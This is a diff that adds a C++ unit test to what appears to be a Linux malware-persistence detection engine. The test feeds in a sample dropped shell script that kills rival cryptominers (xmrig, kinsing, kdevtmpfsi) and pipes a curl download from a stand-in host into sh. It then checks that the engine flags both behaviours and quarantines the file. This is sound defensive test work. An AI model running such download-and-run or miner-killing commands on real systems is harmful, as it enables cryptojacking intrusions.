@@ -144,5 +144,22 @@ TEST(LinuxPersistence, SystemdScriptsHistoriesAndSudoers) {
   EXPECT_EQ(rules.size(), 4u);
 }
 
+TEST(LinuxPersistence, ADroppedScriptIsOneFindingPerRule) {
+  Diagnostics d;
+  std::vector<model::Event> events;
+  ASSERT_TRUE(normalize::dropped_script_events(
+      as_bytes("#!/bin/sh\npkill -f xmrig\npkill -f kinsing\nkillall -9 kdevtmpfsi\ncurl -s http://x/y | sh\necho done\n"),
+      {"/tmp/d.sh", "linux"}, d, events));
+  auto engine = make_linux_persistence_engine();
+  std::vector<model::Finding> out;
+  engine->scan_artefact({"/tmp/d.sh", "", "dropped_script", "linux", "", events}, out);
+  ASSERT_EQ(out.size(), 2u);  // rival killing (3 lines), download-and-run (1 line)
+  EXPECT_EQ(out[0].rule_id, kCompetitorKillRule);
+  EXPECT_EQ(out[0].evidence.size(), 3u);
+  EXPECT_NE(out[0].title_en.find("3 lines"), std::string::npos);
+  EXPECT_EQ(out[0].actions[0].kind, model::ActionKind::QuarantineFile);
+  EXPECT_EQ(out[1].rule_id, kAutostartDownloadRule);
+}
+
 }  // namespace
 }  // namespace msw::detect::heuristics
